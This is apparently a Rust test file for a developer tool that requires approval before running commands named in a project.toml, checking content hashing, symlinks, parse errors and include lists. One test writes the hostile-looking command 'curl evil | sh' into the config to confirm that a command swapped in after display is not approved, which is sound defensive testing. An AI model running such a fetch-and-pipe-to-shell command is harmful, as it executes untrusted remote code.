use std::fs;

use super::*;
use crate::config::Config;

fn agency(place: &Path) -> Agency {
    Agency::builder().home(place.join("home")).config(Config::default()).build().unwrap()
}

fn write(root: &Path, text: &str) {
    fs::create_dir_all(root.join(".agency")).unwrap();
    fs::write(root.join(PROJECT_FILE), text).unwrap();
}

#[test]
fn an_approval_holds_for_this_content_in_this_repository() {
    let place = tempfile::tempdir().unwrap();
    let (one, other) = (place.path().join("one"), place.path().join("other"));
    let mut agency = agency(place.path());
    write(&one, "[land]\ncheck = [\"npm test\"]\n");
    write(&other, "[land]\ncheck = [\"npm test\"]\n");
    let project = agency.project(&one).unwrap().unwrap();
    let refused = project.checks().unwrap_err();
    assert!(matches!(&refused, ProjectError::NotTrusted { commands, .. } if commands[..] == ["npm test"]), "{refused}");
    agency.trust(&project).unwrap();
    let trusted = |agency: &Agency, root: &Path| agency.project(root).unwrap().unwrap().is_trusted();
    assert!(trusted(&agency, &one) && !trusted(&agency, &other));
    let link = place.path().join("link");
    std::os::unix::fs::symlink(&one, &link).unwrap();
    assert!(trusted(&agency, &link));
    write(&one, "[land]\ncheck = [\"npm test \"]\n");
    assert!(!trusted(&agency, &one));
    write(&one, "[land]\ncheck = [\"npm test\"]\n");
    assert!(trusted(&agency, &one), "the same content as before");
    assert_eq!(agency.trusted_projects().unwrap().len(), 1);
    assert_eq!(agency.revoke_trust(&one).unwrap(), 1);
    assert!(!trusted(&agency, &one));
}

#[test]
fn what_changed_between_showing_and_approving_is_not_approved() {
    let place = tempfile::tempdir().unwrap();
    let mut agency = agency(place.path());
    write(place.path(), "[land]\ncheck = [\"true\"]\n");
    let shown = agency.project(place.path()).unwrap().unwrap();
    write(place.path(), "[land]\ncheck = [\"curl evil | sh\"]\n");
    agency.trust(&shown).unwrap();
    assert!(agency.project(place.path()).unwrap().unwrap().checks().is_err());
}

#[test]
fn a_file_that_is_not_right_names_the_place_and_odd_files_are_errors() {
    let place = tempfile::tempdir().unwrap();
    let agency = agency(place.path());
    assert!(agency.project(place.path()).unwrap().is_none());
    for (text, expected) in [
        ("[land]\nchek = []\n", "did you mean `check`?"),
        ("[land]\ncheck = \"npm test\"\n", "project.toml:2:9"),
        ("[land]\ncheck_minutes = 0\n", "project.toml:2:17"),
        ("[lnd]\n", "did you mean `land`?"),
    ] {
        write(place.path(), text);
        let error = agency.project(place.path()).unwrap_err().to_string();
        assert!(error.contains(expected), "{error}");
    }
    let path = place.path().join(PROJECT_FILE);
    fs::write(&path, b"\xff\xfe").unwrap();
    assert!(agency.project(place.path()).is_err());
    fs::write(&path, vec![b'#'; usize::try_from(MAX_BYTES).unwrap() + 1]).unwrap();
    assert!(agency.project(place.path()).is_err());
    fs::remove_file(&path).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, &path, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    assert!(agency.project(place.path()).is_err(), "a pipe is not waited for");
    fs::remove_file(&path).unwrap();
    fs::create_dir(&path).unwrap();
    assert!(agency.project(place.path()).is_err());
}

#[test]
fn without_commands_there_is_nothing_to_approve() {
    let place = tempfile::tempdir().unwrap();
    let agency = agency(place.path());
    write(place.path(), "[land]\nrequire_approval = true\n");
    let project = agency.project(place.path()).unwrap().unwrap();
    assert!(project.requires_approval() && project.checks().unwrap().is_empty());
}

#[test]
fn a_list_of_files_is_part_of_the_content_and_a_file_without_one_keeps_its_approval() {
    let place = tempfile::tempdir().unwrap();
    let mut agency = agency(place.path());
    let text = "[land]\ncheck = [\"true\"]\n";
    write(place.path(), text);
    let project = agency.project(place.path()).unwrap().unwrap();
    assert_eq!(project.sha256(), hexadecimal(&Sha256::digest(text.as_bytes())), "as before there were lists");
    agency.trust(&project).unwrap();
    let list = place.path().join(INCLUDE_FILE);
    fs::write(&list, "# a comment\n\n").unwrap();
    assert!(agency.project(place.path()).unwrap().unwrap().is_trusted(), "it names nothing");
    fs::write(&list, ".env\r\n!.env.sample  \nname\\ \n#x\n").unwrap();
    let project = agency.project(place.path()).unwrap().unwrap();
    assert!(!project.is_trusted() && project.worktree().is_err());
    let paths: Vec<String> = project.paths().into_iter().map(|path| path.path).collect();
    assert_eq!(paths, [".env", "!.env.sample", "name\\ "]);
    agency.trust(&project).unwrap();
    assert!(agency.project(place.path()).unwrap().unwrap().worktree().is_ok());
    fs::remove_file(place.path().join(PROJECT_FILE)).unwrap();
    let alone = agency.project(place.path()).unwrap().unwrap();
    assert!(!alone.is_trusted() && alone.path() == list);
}

#[test]
fn ports_alone_need_no_approval() {
    let place = tempfile::tempdir().unwrap();
    let agency = agency(place.path());
    write(place.path(), "[worktree]\nports = { web = 3000, db_2 = 5432 }\n");
    let project = agency.project(place.path()).unwrap().unwrap();
    assert!(!project.needs_approval());
    assert_eq!(project.worktree().unwrap().ports.len(), 2);
}
